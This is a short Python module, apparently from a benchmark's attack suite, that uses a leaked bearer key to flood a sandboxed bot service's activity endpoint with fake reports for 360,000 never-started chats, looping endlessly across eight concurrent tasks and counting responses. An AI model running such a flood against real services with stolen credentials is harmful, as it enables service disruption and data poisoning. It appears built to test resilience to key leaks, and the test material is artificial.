"""A key that leaked reports signs of life of 360,000 chats that never started the bot, over and over."""

import asyncio
from collections import Counter
from itertools import count
from typing import Final

import aiohttp
import msgspec

from bench.questions.attack.target import Target

FIRST: Final = 8_000_000_000
"""Above every id of the sandbox's people."""
_CHATS: Final = 360_000
_AT_ONCE: Final = 8
_IN_A_REQUEST: Final = 512


async def attack(target: Target, counts: Counter[str]) -> None:
    bodies = [_body(range(start, min(start + _IN_A_REQUEST, _CHATS))) for start in range(0, _CHATS, _IN_A_REQUEST)]
    numbers = count()
    async with (
        aiohttp.ClientSession(headers={"Authorization": f"Bearer {target.key}"}) as session,
        asyncio.TaskGroup() as group,
    ):
        for _ in range(_AT_ONCE):
            group.create_task(_report(session, _url(target), bodies, numbers, counts))


async def _report(
    session: aiohttp.ClientSession, url: str, bodies: list[bytes], numbers: "count[int]", counts: Counter[str]
) -> None:
    for number in numbers:
        try:
            async with session.post(url, data=bodies[number % len(bodies)]) as answer:
                await answer.read()
        except (aiohttp.ClientError, TimeoutError) as error:
            counts[type(error).__name__] += 1
        else:
            counts[str(answer.status)] += 1


def _url(target: Target) -> str:
    return f"http://{target.host}:{target.port}/v1/bots/{target.bot_id}/activity"


def _body(chats: range) -> bytes:
    return msgspec.json.encode({"activities": [{"chat_id": FIRST + chat} for chat in chats]})
